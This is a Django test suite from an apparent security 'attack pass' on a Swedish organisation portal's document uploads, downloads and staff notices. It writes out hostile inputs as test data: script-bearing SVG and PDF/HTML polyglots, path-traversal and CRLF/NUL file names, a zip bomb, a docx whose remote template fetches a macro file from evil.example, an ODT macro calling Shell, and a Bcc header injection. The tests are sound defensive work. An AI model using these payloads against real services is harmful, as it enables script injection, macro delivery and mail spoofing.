"""Session 22 attack pass (attacker's role) on the features integrated today: documents in the
organisation application, BankID step-up and the linked BankID with the verification of
BankID's answer, and sessions kept in the cache.

Attacks the portal refuses stay here as regression tests. What got through is marked
`xfail(strict=True, reason="finding: ...")`: the test states the behaviour the portal should
have, so it starts passing (and then fails as XPASS, to be unmarked) once the finding is fixed.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from organisations import services
from organisations.models import (
    ApplicationDocument,
    ApplicationReview,
    Membership,
    MembershipRole,
    ReviewAction,
)
from tests.accounts.factories import UserFactory
from tests.bankid.fixtures import clock, simulator  # noqa: F401 (the BankID simulator)
from tests.organisations.factories import MembershipFactory, OrganisationApplicationFactory
from tests.permissions import make_staff_with_mfa

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HX = {"HTTP_HX_REQUEST": "true"}
PNO = "198507099805"
OTHER_PNO = "199001019802"


# --- Helpers ------------------------------------------------------------------------------------


def _pdf(name: str = "stadgar.pdf", content: bytes = PDF) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def _stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT) / "applications"
    return sorted(root.iterdir()) if root.exists() else []


def _zip(entries: dict[str, bytes], *, first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        names = list(entries)
        if first:
            archive.writestr(zipfile.ZipInfo(first), entries[first], zipfile.ZIP_STORED)
            names.remove(first)
        for name in names:
            archive.writestr(name, entries[name])
    return buffer.getvalue()


DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)


def _docx(extra: dict[str, bytes] | None = None) -> bytes:
    entries = {
        "[Content_Types].xml": DOCX_TYPES,
        "word/document.xml": b"<w:document/>",
        "_rels/.rels": b"<Relationships/>",
    }
    entries.update(extra or {})
    return _zip(entries)


@pytest.fixture
def applying():
    """An application waiting for review, its administrator (the applicant) and a member."""
    application = OrganisationApplicationFactory()
    organisation = application.organisation
    MembershipFactory(user=application.applicant, organisation=organisation, role="admin")
    member = UserFactory(email="medlem@attack.example.se")
    MembershipFactory(user=member, organisation=organisation, role=MembershipRole.MEMBER)
    return application, application.applicant, member


def _documents_url(application) -> str:
    return reverse("organisations:documents", args=[application.organisation.slug])


def _reply_url(application) -> str:
    return reverse("organisations:reply", args=[application.organisation.slug])


def _add(application, admin, upload=None, kind="statutes") -> ApplicationDocument:
    return services.application_document_add(
        application=application, kind=kind, upload=upload or _pdf(), uploaded_by=admin
    )


def _ask_for(application, kind: str = "") -> None:
    services.application_review(
        application=application,
        reviewer=make_staff_with_mfa(email=f"kansli-{kind or 'x'}@attack.example.se"),
        action=ReviewAction.REQUEST_INFO,
        reason="Ett dokument, tack.",
        requested_document=kind,
    )


def _download(client, document):
    return client.get(reverse("organisations:document_download", args=[document.pk]))


def _delete(client, document):
    return client.post(reverse("organisations:document_delete", args=[document.pk]))


# === 1. Documents in the organisation application ===============================================

# --- IDOR on download and delete ----------------------------------------------------------------


def test_a_former_member_can_no_longer_download_or_see_the_documents(client, applying):
    application, admin, member = applying
    document = _add(application, admin)
    client.force_login(member)
    assert _download(client, document).status_code == 200
    Membership.objects.filter(user=member).delete()
    assert _download(client, document).status_code == 404
    assert client.get(_documents_url(application)).status_code == 404


def test_a_plain_member_staff_and_a_stranger_cannot_delete_a_document(client, applying):
    application, admin, member = applying
    document = _add(application, admin)
    for who, status in [(member, 403), (make_staff_with_mfa(), 403), (UserFactory(), 404)]:
        client.force_login(who)
        assert _delete(client, document).status_code == status, who
    client.logout()
    response = _delete(client, document)
    assert response.status_code == 302 and "/konto/login/" in response["Location"]
    # A GET never deletes.
    client.force_login(admin)
    assert (
        client.get(reverse("organisations:document_delete", args=[document.pk])).status_code == 405
    )
    assert ApplicationDocument.objects.filter(pk=document.pk).exists()
    assert len(_stored_files()) == 1


def test_guessed_document_numbers_answer_404_alike(client, applying):
    application, admin, _member = applying
    document = _add(application, admin)
    client.force_login(UserFactory())
    existing = _download(client, document)
    missing = client.get(reverse("organisations:document_download", args=[document.pk + 1]))
    assert existing.status_code == missing.status_code == 404
    huge = client.get(f"/organisationer/dokument/{2**70}/")
    assert huge.status_code == 404


def test_an_admin_of_another_organisation_cannot_upload_into_or_reply_to_this_application(
    client, applying
):
    application, _admin, _member = applying
    _ask_for(application, "")
    other = OrganisationApplicationFactory()
    MembershipFactory(user=other.applicant, organisation=other.organisation, role="admin")
    client.force_login(other.applicant)
    upload = client.post(_documents_url(application), {"kind": "statutes", "file": _pdf()})
    assert upload.status_code == 404
    reply = client.post(
        _reply_url(application), {"message": "Jag svarar åt dem.", "kind": "statutes"}
    )
    assert reply.status_code == 403
    assert ApplicationDocument.objects.count() == 0
    assert not ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).exists()
    assert _stored_files() == []


@pytest.mark.parametrize("action", [ReviewAction.REJECT, ReviewAction.APPROVE])
def test_nothing_can_be_uploaded_or_replied_after_the_decision(client, applying, action):
    application, admin, _member = applying
    _ask_for(application, "statutes")
    services.application_review(
        application=application,
        reviewer=make_staff_with_mfa(),
        action=action,
        reason="Beslut.",
    )
    client.force_login(admin)
    assert _documents_url(application)
    upload = client.post(_documents_url(application), {"kind": "statutes", "file": _pdf()})
    assert upload.status_code == 403
    reply = client.post(
        _reply_url(application), {"message": "Sent svar.", "kind": "statutes", "file": _pdf()}
    )
    assert reply.status_code == 403
    # Straight to the service, past the views: still refused.
    with pytest.raises(Exception, match="redan beslutad"):
        _add(application, admin)
    assert ApplicationDocument.objects.count() == 0
    assert _stored_files() == []


# --- Hostile files ------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bild.png", SVG),
        ("bild.svg", SVG),
        ("stadgar.pdf", b"  %PDF-1.4 <html><script>alert(1)</script>"),
        ("stadgar.pdf", b"<!doctype html><html>%PDF-1.4</html>"),
        ("stadgar.html", b"%PDF-1.4\n<html><script>alert(1)</script>"),
        ("stadgar.docx", b"%PDF-1.4 not a zip"),
        ("stadgar.docx", _docx({"word/vbaProject.bin": b"macro"})),
        ("stadgar.docx", _docx({"word/VBAPROJECT.BIN": b"macro"})),
        ("stadgar.pdf", b"MZ%PDF-1.4"),
        ("stadgar.exe", b"%PDF-1.4"),
        ("stadgar.pdf.exe", PDF),
        ("stadgar.txt", b"plain text"),
        ("stadgar.odt", _docx()),
    ],
    ids=[
        "svg-as-png",
        "svg",
        "html-behind-spaces",
        "html-with-pdf-inside",
        "pdf-named-html",
        "not-a-zip-docx",
        "docx-macros",
        "docx-macros-upper",
        "exe-magic",
        "exe-name",
        "double-extension",
        "txt-not-allowed",
        "docx-named-odt",
    ],
)
def test_hostile_files_are_refused_and_nothing_is_saved(client, applying, name, content):
    application, admin, _member = applying
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 400
    assert "error-summary" in response.content.decode()
    assert ApplicationDocument.objects.count() == 0
    assert _stored_files() == []


def test_a_zip_bomb_docx_is_refused_without_inflating_it(client, applying):
    application, admin, _member = applying
    bomb = _docx({"word/bomb.xml": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.docx", bomb)},
    )
    assert response.status_code == 400
    assert "arkiv med för många delar" in response.content.decode()
    assert ApplicationDocument.objects.count() == 0


def test_an_oversized_file_is_refused_with_a_swedish_message(client, applying):
    application, admin, _member = applying
    client.force_login(admin)
    big = _pdf(content=PDF + b" " * (10 * 1024 * 1024))
    response = client.post(_reply_url(application), {"message": "x"})  # not asked: 403
    assert response.status_code == 403
    response = client.post(_documents_url(application), {"kind": "statutes", "file": big})
    assert response.status_code == 400
    assert "högst 10,0" in response.content.decode()
    assert _stored_files() == []


def test_a_pdf_html_polyglot_is_only_ever_served_as_a_pdf_attachment(client, applying):
    """A PDF may contain anything after its header; the defence is how it is served."""
    application, admin, _member = applying
    polyglot = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>"
    document = _add(application, admin, _pdf("stadgar.pdf", polyglot))
    client.force_login(admin)
    response = _download(client, document)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    # The stored file is not reachable under MEDIA_URL either.
    assert client.get(f"{settings.MEDIA_URL}{document.file.name}").status_code == 404


@pytest.mark.parametrize(
    "name",
    [
        "stadgar\u202efdp.exe.pdf",
        "stadgar\x00.html.pdf",
        "stadgar\r\nX-Injected: 1\r\n.pdf",
        'stad"gar;filename=evil.html;.pdf',
        "..\\..\\..\\etc\\passwd.pdf",
        "../../settings.py.pdf",
        "%2e%2e%2fstadgar.pdf",
        "\u2028stadgar\u0085.pdf",
    ],
    ids=["rtl-override", "nul", "crlf", "quote-semicolon", "backslash-path", "path", "pct", "ls"],
)
def test_hostile_names_never_reach_the_headers_or_the_file_system(client, applying, name):
    application, admin, _member = applying
    document = _add(application, admin, _pdf(name))
    assert document.file.name.startswith("applications/")
    assert (
        Path(settings.MEDIA_ROOT, document.file.name)
        .resolve()
        .is_relative_to(Path(settings.MEDIA_ROOT).resolve() / "applications")
    )
    for forbidden in ("\u202e", "\x00", "\r", "\n", "/", "\\", '"', ";", "\u2028", "\x85"):
        assert forbidden not in document.original_name
    client.force_login(admin)
    response = _download(client, document)
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "X-Injected" not in response
    assert "\r" not in disposition and "\n" not in disposition
    # One quoted (or RFC 5987-encoded) name: no second parameter smuggled in.
    assert re.fullmatch(r"attachment; filename(\*=utf-8''[^;\s\"]+|=\"[^\"\\]*\")", disposition)
    page = client.get(_documents_url(application))
    assert page.status_code == 200


@pytest.mark.xfail(
    strict=True,
    reason=(
        "finding: download_name() cuts a long name to 200 characters without keeping the "
        "checked extension, so a 255-character name '<196>.htm<...>.pdf' is accepted as a PDF "
        "and downloaded as '<196>.htm' (opened locally, the PDF/HTML polyglot runs as HTML)"
    ),
)
def test_a_long_name_cannot_give_the_download_another_extension(client, applying):
    application, admin, _member = applying
    polyglot = b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>"
    name = "a" * 196 + ".htm" + "b" * 51 + ".pdf"
    assert len(name) == 255  # Django keeps upload names to 255 characters, extension first
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile(name, polyglot)},
    )
    assert response.status_code == 302
    document = ApplicationDocument.objects.get()
    disposition = _download(client, document)["Content-Disposition"]
    assert disposition.rstrip('"').endswith(".pdf"), disposition


_EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    b'formats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.'
    b'example/macros.dotm" TargetMode="External"/></Relationships>'
)
_RENAMED_VBA = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.'
    b'com/office/2006/relationships/vbaProject" Target="innocent.bin"/></Relationships>'
)


@pytest.mark.xfail(
    strict=True,
    reason=(
        "finding: the docx check refuses macros only by the part name 'vbaProject.bin'; a "
        "remote template (attachedTemplate, TargetMode=External: template injection, fetches "
        "a macro .dotm when staff open it) or a vbaProject part under another name passes"
    ),
)
@pytest.mark.parametrize(
    "extra",
    [
        {"word/_rels/settings.xml.rels": _EXTERNAL_TEMPLATE},
        {"word/_rels/document.xml.rels": _RENAMED_VBA, "word/innocent.bin": b"\xd0\xcf"},
    ],
    ids=["remote-template", "renamed-vba-project"],
)
def test_a_docx_that_fetches_or_carries_macros_is_refused(client, applying, extra):
    application, admin, _member = applying
    docx = _docx(extra)
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.docx", docx)},
    )
    assert response.status_code == 400
    assert ApplicationDocument.objects.count() == 0


def _odt_with_macro() -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
            "Basic/Standard/Module1.xml": b'<script:module>Sub Main Shell("calc") End Sub'
            b"</script:module>",
            "Basic/script-lc.xml": b"<library:libraries/>",
        },
        first="mimetype",
    )


@pytest.mark.xfail(
    strict=True,
    reason=(
        "finding: an OpenDocument file with Basic macros (Basic/, Scripts/) is accepted "
        "although the policy refuses macros in Word files"
    ),
)
def test_an_odt_with_macros_is_refused(client, applying):
    application, admin, _member = applying
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.odt", _odt_with_macro())},
    )
    assert response.status_code == 400
    assert ApplicationDocument.objects.count() == 0


# --- CSRF, double submit ------------------------------------------------------------------------


def test_the_document_posts_need_the_csrf_token(applying):
    application, admin, _member = applying
    document = _add(application, admin)
    _ask_for(application, "")
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(admin)
    posts = [
        (_documents_url(application), {"kind": "statutes", "file": _pdf("annat.pdf")}),
        (reverse("organisations:document_delete", args=[document.pk]), {}),
        (_reply_url(application), {"message": "Utan token."}),
    ]
    for url, data in posts:
        assert browser.post(url, data).status_code == 403, url
    assert list(ApplicationDocument.objects.values_list("pk", flat=True)) == [document.pk]
    assert not ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).exists()


def test_a_reply_submitted_twice_is_saved_once_and_leaves_no_stray_file(client, applying):
    application, admin, _member = applying
    _ask_for(application, "statutes")
    client.force_login(admin)
    data = {"message": "Stadgarna.", "kind": "statutes"}
    first = client.post(_reply_url(application), {**data, "file": _pdf()})
    assert first.status_code == 302
    second = client.post(_reply_url(application), {**data, "file": _pdf()})
    assert second.status_code == 403  # no longer asked for more information
    # Past the view (two requests racing past the permission check): the service refuses.
    with pytest.raises(Exception, match="Ingen komplettering"):
        services.application_reply(
            application=application,
            author=admin,
            message="igen",
            upload=_pdf(),
            kind="statutes",
        )
    assert ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).count() == 1
    assert ApplicationDocument.objects.count() == 1
    assert len(_stored_files()) == 1


# --- The staff notice ---------------------------------------------------------------------------


def test_an_organisation_name_cannot_inject_mail_headers(client):
    import importlib

    from tests.organisations.factories import application_details

    seed = importlib.import_module("organisations.migrations.0002_vasternorrland_municipalities")
    from organisations.models import Municipality

    for code, name, province in seed.MUNICIPALITIES:
        Municipality.objects.get_or_create(
            code=code,
            defaults={"name": name, "province": province, "county": "Västernorrlands län"},
        )
    client.force_login(UserFactory())
    response = client.post(
        reverse("organisations:apply"),
        application_details(name="Förening\r\nBcc: evil@attack.example"),
    )
    assert response.status_code == 200
    assert "error-summary" in response.content.decode()
    assert not [m for m in mail.outbox if "evil@attack.example" in str(m.bcc)]


@pytest.mark.xfail(
    strict=True,
    reason=(
        "finding: the applicant's reply text goes into staff's notice unquoted and urlized, "
        "so an applicant can forge the notice's own 'Ansökan väntar på granskning' link"
    ),
)
def test_a_reply_cannot_forge_a_link_in_the_staff_notice(
    client, applying, django_capture_on_commit_callbacks
):
    application, admin, _member = applying
    staff = make_staff_with_mfa(email="granskare@attack.example.se")
    _ask_for(application, "")
    mail.outbox.clear()
    client.force_login(admin)
    forged = (
        "Se bifogat.\n\nAnsökan väntar på granskning:\n"
        "https://lov-portalen.evil.example/organisationer/granskning/1/"
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(_reply_url(application), {"message": forged}).status_code == 302
    (notice,) = [m for m in mail.outbox if m.to == [staff.email]]
    html = notice.alternatives[0][0]
    assert 'href="https://lov-portalen.evil.example' not in html
